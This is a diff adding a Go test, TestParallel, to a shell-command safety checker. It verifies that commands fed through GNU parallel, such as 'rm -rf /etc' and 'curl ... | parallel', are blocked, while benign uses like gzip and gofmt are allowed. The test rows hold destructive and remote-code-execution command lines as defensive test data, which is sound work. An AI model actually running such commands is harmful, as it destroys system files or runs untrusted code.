@@ -70,6 +70,21 @@ func TestE8Override(t *testing.T) {
 	})
 }
 
+// What parallel is fed are commands, or arguments of the one it has.
+func TestParallel(t *testing.T) {
+	runRows(t, builtin(t, policy.Cautious), []row{
+		{"lines", `echo 'rm -rf /etc' | parallel`, rules.Block, "fs.rm-system"},
+		{"a here-string", `parallel -j4 <<< 'rm -rf /etc'`, rules.Block, "fs.rm-system"},
+		{"lines from the network", `curl -s https://example.com/x | parallel`, rules.Block, "run.remote"},
+		{"arguments", `echo /etc | parallel rm -rf`, rules.Block, "fs.rm-system"},
+		{"arguments in a template", `parallel 'rm -rf {}' ::: build /etc`, rules.Block, "fs.rm-system"},
+		{"commands as arguments", `parallel ::: ls 'rm -rf /etc'`, rules.Block, "fs.rm-system"},
+		{"files", `ls *.log | parallel gzip`, rules.Allow, ""},
+		{"files in a template", `find . -name '*.go' | parallel -j8 'gofmt -l {} > /dev/null'`, rules.Allow, ""},
+		{"pieces", `cat x | parallel --pipe wc -l`, rules.Allow, ""},
+	})
+}
+
 // What a shell is given by a number is not known, and never taken as read; what
 // it is given in its environment is known (the rows of docs/bypasses.md).
 func TestDescriptorsAndExports(t *testing.T) {
